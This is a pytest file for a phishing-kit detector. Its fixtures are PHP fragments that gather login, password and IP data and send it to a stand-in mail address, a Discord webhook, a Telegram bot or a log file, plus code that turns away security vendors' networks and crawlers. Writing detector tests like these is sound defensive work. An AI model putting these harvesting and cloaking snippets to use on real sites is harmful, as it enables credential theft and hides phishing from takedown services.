from __future__ import annotations

import pytest

from pratique.content.abuse.kit import find
from pratique.content.base import Content

CATCH = b"""<?php if (false) {
$m = "Login : " . $_SESSION['user'] . "\\n";
$m .= "Password : " . $_POST['password'] . "\\n";
$m .= "IP : " . $_SERVER['REMOTE_ADDR'];
send($m); mail("catch@b.example.net", "x", $m);
header("Location: https://login.example.com/"); }"""


def marks(held, path="/srv/www/a/x.php"):
    return {(one.mark, one.quote) for one in find(Content(held, path, "php"))}


def names(held):
    return {mark for mark, _ in marks(held)}


def test_a_catch_and_where_it_goes():
    found = marks(CATCH)
    assert "php-collects-credentials" in {mark for mark, _ in found}
    assert ("credential-destination", "catch@b.example.net") in found


def test_most_of_a_key_is_left_out():
    held = b"<?php $token = '1234567890:" + b"A" * 35 + b"'; $chat_id = '-100123456789';"
    assert marks(held) == {
        ("credential-destination", "Telegram bot 1234567890:AAAA…"),
        ("credential-destination", "Telegram chat -100123456789"),
    }


@pytest.mark.parametrize(
    ("held", "target"),
    [
        (
            CATCH + b"$u = 'https://discord.com/api/webhooks/1234567890/" + b"a" * 60 + b"';",
            "discord.com/api/webhooks/1234",
        ),
        (CATCH.replace(b'mail("catch@b.example.net", "x", $m)',
                       b"file_put_contents('log.txt', $m, FILE_APPEND)"), "the file log.txt"),
    ],
)  # fmt: skip
def test_other_places_that_a_catch_goes_to(held, target):
    quotes = [quote for mark, quote in marks(held) if mark == "credential-destination"]
    assert target in [quote[: len(target)] for quote in quotes]


def test_networks_are_turned_away():
    networks = b", ".join(b"'^%d.%d.*.*'" % (at, at + 1) for at in range(60, 130))
    held = (
        b"<?php if (false) { $ips = array(" + networks + b"); foreach ($ips as $one) if ("
        b"preg_match('/' . $one . '/', $_SERVER['REMOTE_ADDR'])) { header('HTTP/1.0 404 Not "
        b"Found'); die(); } }"
    )
    found = list(find(Content(held, "/srv/www/a/x.php", "php")))
    assert [(one.mark, one.confidence) for one in found] == [("php-shuts-out-watchers", 0.6)]


def test_watchers_are_turned_away():
    held = (
        b"<?php if (false) { $h = gethostbyaddr($_SERVER['REMOTE_ADDR']); foreach "
        b"(array('phishtank',"
        b"'netcraft','opendns') as $w) if (strpos($h, $w)) { header('HTTP/1.0 404 Not Found'); "
        b"die(); } }"
    )
    assert "php-shuts-out-watchers" in names(held)


@pytest.mark.parametrize(
    "held",
    [
        # A contact form.
        b"<?php $m = \"Name: \" . $_POST['name'] . \" E-mail: \" . $_POST['email'] . "
        b"$_SERVER['REMOTE_ADDR'];"
        b" mail('me@a.example', 'Contact', $m); header('Location: thanks.php');",
        # A registration.
        b"<?php if (password_verify($_POST['password'], $row)) { mail($to, 'Password : ' . $x, "
        b"'Login : ' . $y);"
        b" header('Location: index.php'); } $ip = $_SERVER['REMOTE_ADDR'];",
        # A list of robots.
        b"<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'googlebot')) exit; $x = "
        b"array('bingbot', 'slurp');",
        b"<?php // @author a@b.example.net\n$x = 1;",
        CATCH + b"#" * 200_000,  # no page of a kit is as long
        CATCH.replace(b'"Login : "', b'"a"').replace(b'"Password : "', b'"b"'),
        CATCH.replace(b"mail(", b"note(").replace(b"send(", b"keep("),
        # Networks that are shut out by a list of one's own, and a few names of watchers.
        b"<?php $h = $_SERVER['REMOTE_ADDR']; if (preg_match('/^66.102.*|^64.233.*/', $h)) die();",
        b"<?php $h = gethostbyaddr($_SERVER['REMOTE_ADDR']); if (strpos($h, 'phishtank')) die();",
        b"<?php $known = array('phishtank', 'netcraft', 'opendns'); echo count($known);",
    ],
)
def test_leaves_alone(held):
    assert names(held) == set()
